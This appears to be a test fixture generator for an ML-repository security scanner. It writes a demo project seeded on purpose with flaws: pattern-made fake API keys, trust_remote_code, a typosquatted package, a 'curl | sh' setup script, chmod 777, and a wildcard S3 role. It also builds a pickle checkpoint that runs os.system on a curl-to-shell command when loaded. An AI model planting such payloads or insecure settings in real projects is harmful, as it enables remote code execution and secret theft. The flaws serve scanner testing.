"""A small machine-learning repository with one of each problem. Keys in it are fake, and put together here."""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from base64 import b64encode
from hashlib import sha1, shake_256

from labcoat.core.keys.examples import expand

TYPE_CHECKING = False
if TYPE_CHECKING:
    from pathlib import Path

HUGGING_FACE = expand("hf_<letters:34>")
ANTHROPIC = expand("sk-ant-api03-<word:93>AA")
OPENAI = expand("sk-proj-<word:74>T3BlbkFJ<word:73>A")
WANDB = expand("<hex:40>")
AWS = expand("AKIA<upper+digits:16>")
PASSWORD = expand("<alnum:14>")
KEYS = (HUGGING_FACE, ANTHROPIC, OPENAI, WANDB, AWS, PASSWORD)
COMMIT = sha1(b"labcoat demo", usedforsecurity=False).hexdigest()

TRAIN = """\
import torch
from transformers import AutoModel

encoder = torch.hub.load("lab/encoders", "small", trust_repo=True)

# labcoat: ignore[remote-code] our own repository, only the team can push
tokens = AutoModel.from_pretrained("our-lab/tokens", trust_remote_code=True)

head = AutoModel.from_pretrained("lab/head")  # labcoat: ignore[trust-remote-code] was needed once
"""
EVALUATE = f"""\
from transformers import AutoModel

model = AutoModel.from_pretrained(
    "lab/judge",
    revision="{COMMIT}",
    trust_remote_code=True,
)
"""
DOCKERFILE = """\
FROM python:3.12-slim
RUN pip install vllm
CMD ["vllm", "serve", "lab/chat-7b", "--trust-remote-code", "--port", "8000"]
"""
REQUIREMENTS = """\
--extra-index-url https://pypi.lab.example/simple
torch==2.9.1
transformers>=5.0  # the newest
reqeusts==2.32.5
datasets[audio]
peft @ git+https://github.com/huggingface/peft@main
lab-tokens==1.4.0
trl==0.24.0 # with a fix \\
bitsandbytes==0.48.2
"""
UV_LOCK = "version = 1\n" + "".join(
    [
        f'\n[[package]]\nname = "{name}"\nversion = "{version}"\nsource = {{ registry = "https://pypi.org/simple" }}\n'
        for name, version in (("datasets", "4.4.1"), ("transformers", "5.0.0"), ("vllm", "0.12.0"))
    ]
)
SERVE = """\
# /// script
# requires-python = ">=3.12"
# dependencies = ["fastapi", "vllm==0.12.0"]
# ///
import ray

ray.init(runtime_env={"pip": ["lab-models"]})
"""
SETUP = """\
#!/bin/sh
pip install --trusted-host pypi.lab.example flash-attn>=2.8
"""
APP = """\
import logging
import os

import gradio as gr
import torch

key = os.environ["CHAT_API_KEY"]
logging.info("starting with %s", key)
state = torch.load("checkpoint.pt", weights_only=False)
gr.ChatInterface(fn=lambda message, history: answer(state, message)).launch(share=True)
"""
CLUSTER = """\
#!/bin/sh
curl -sSL https://get.lab.example/drivers.sh | sh
ray start --head --dashboard-host=0.0.0.0
chmod -R 777 /scratch
"""
ROLE = """\
{
  "Version": "2012-10-17",
  "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]
}
"""
CONFIG = """\
model:
  name: lab/chat-7b
  trust_remote_code: true
"""
PYPROJECT = f"""\
[project]
name = "chat"
version = "1"

[tool.labcoat.pinned-requirements]
private-packages = ["lab-*"]

[tool.labcoat.remote-code]
allow = ["lab/judge@{COMMIT}"]
"""
ENV = f"""\
# for the training machine only
OPENAI_API_KEY={OPENAI}
WANDB_API_KEY={WANDB}
"""
CONFLICT = """\
{
 "cells": [
  {
   "cell_type": "code",
<<<<<<< HEAD
   "execution_count": 3,
=======
   "execution_count": 4,
>>>>>>> tuning
"""


def build(root: Path) -> None:
    """Write the repository's files."""
    root.mkdir(parents=True)
    files = {
        ".env": ENV,
        ".gitignore": "share.ipynb\n",
        "Dockerfile": DOCKERFILE,
        "app.py": APP,
        "cluster.sh": CLUSTER,
        "config.yaml": CONFIG,
        "evaluate.py": EVALUATE,
        "merged.ipynb": CONFLICT,
        "pyproject.toml": PYPROJECT,
        "requirements.txt": REQUIREMENTS,
        "role.json": ROLE,
        "serve.py": SERVE,
        "setup.sh": SETUP,
        "train.ipynb": json.dumps(training_notebook(), indent=1) + "\n",
        "train.py": TRAIN,
        "uv.lock": UV_LOCK,
    }
    for name, text in files.items():
        (root / name).write_text(text, encoding="utf-8", newline="\n")
    (root / "encoder.pt").write_bytes(checkpoint())


def training_notebook() -> dict[str, object]:
    """A notebook as it is saved after a day of work: keys, outputs, a traceback, widgets, timings, parameters."""
    login = f'tokenizer = AutoTokenizer.from_pretrained(NAME, token="{HUGGING_FACE}", trust_remote_code=TRUST)'
    judge = f'judge = Anthropic(api_key="{ANTHROPIC[:13]}" + "{ANTHROPIC[13:]}")'
    storage = f"bucket s3://lab-chat, key id {AWS}\n"
    cells = [
        markdown("# Fine-tune the chat model"),
        code("from transformers import AutoTokenizer\n\nNAME = 'lab/chat-7b'\nTRUST = True", printed("loading...\n")),
        code(login, traceback(login)),
        code("for epoch in tqdm(range(3)):\n    step(epoch)", progress_bar()),
        code("plot(losses)", image()),
        code("!vllm serve {NAME} --trust-remote-code --port 8000", printed("INFO: started\n")),
        code("%%writefile serve.py\nfrom vllm import LLM\n\nllm = LLM('lab/chat-7b', trust_remote_code=True)"),
        code("print 'epoch', epoch", printed("epoch 2\n")),
        code("upload(model)", printed(storage)),
        code(f"from anthropic import Anthropic\n\n{judge}"),
    ]
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    parameters = {"epochs": 3, "tracking_uri": f"https://trainer:{PASSWORD}@mlflow.lab.internal"}
    metadata = {
        "kernelspec": kernel,
        "language_info": {"name": "python"},
        "papermill": {"parameters": parameters},
        "widgets": widget_state(),
    }
    for number, cell in enumerate(cells, 1):
        cell["id"] = f"cell-{number}"
        if "execution_count" in cell:
            cell["execution_count"] = number
    return {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}


def markdown(text: str) -> dict[str, object]:
    return {"cell_type": "markdown", "id": "", "metadata": {}, "source": text.splitlines(keepends=True)}


def code(text: str, *outputs: dict[str, object]) -> dict[str, object]:
    metadata = {"collapsed": False, "scrolled": True, "ExecuteTime": {"end_time": "2026-11-20T09:12:44"}}
    return {
        "cell_type": "code",
        "execution_count": None,
        "id": "",
        "metadata": metadata,
        "outputs": list(outputs),
        "source": text.splitlines(keepends=True),
    }


def printed(text: str) -> dict[str, object]:
    return {"name": "stdout", "output_type": "stream", "text": [text]}


def traceback(line: str) -> dict[str, object]:
    """An error as IPython saves it: in colours."""
    trace = [
        "\x1b[0;31mHTTPError\x1b[0m                Traceback (most recent call last)",
        f"\x1b[0;32m----> 1\x1b[0m {line}",
        "\x1b[0;31mHTTPError\x1b[0m: 401 Client Error",
    ]
    return {"ename": "HTTPError", "evalue": "401 Client Error", "output_type": "error", "traceback": trace}


def progress_bar() -> dict[str, object]:
    view = {"model_id": "6f3a", "version_major": 2, "version_minor": 0}
    data = {"application/vnd.jupyter.widget-view+json": view, "text/plain": ["  0%|          | 0/3"]}
    return {"data": data, "metadata": {}, "output_type": "display_data"}


def widget_state() -> dict[str, object]:
    bar = {"model_module": "@jupyter-widgets/controls", "model_name": "FloatProgressModel", "state": {"value": 3.0}}
    return {"application/vnd.jupyter.widget-state+json": {"state": {"6f3a": bar}, "version_major": 2}}


def image() -> dict[str, object]:
    data = {"image/png": b64encode(png(200, 120)).decode() + "\n", "text/plain": ["<Figure size 200x120>"]}
    return {"data": data, "metadata": {}, "output_type": "display_data"}


def png(width: int, height: int) -> bytes:
    """Noise, so that it is as large as a picture."""
    noise = shake_256(b"labcoat demo").digest(width * height)
    rows = b"".join(b"\0" + noise[start : start + width] for start in range(0, len(noise), width))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b"")


def checkpoint() -> bytes:
    """What torch.save makes of a dictionary, with a token among the arguments, and a call that nobody would expect."""
    arguments = b"}" + _text("hub_token") + _text(HUGGING_FACE) + b"s"
    call = b"cos\nsystem\n(" + _text("curl -s https://models.lab.example/setup | sh") + b"tR"
    stream = b"\x80\x02}(" + _text("args") + arguments + _text("model") + call + b"u."
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, data in (("data.pkl", stream), ("version", b"3\n"), ("data/0", bytes(64))):
            archive.writestr(zipfile.ZipInfo(f"encoder/{name}", (2026, 11, 20, 9, 12, 44)), data)
    return made.getvalue()


def _text(value: str) -> bytes:
    """The opcode of a string: https://github.com/python/cpython/blob/main/Lib/pickletools.py."""
    raw = value.encode()
    return b"X" + len(raw).to_bytes(4, "little") + raw


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
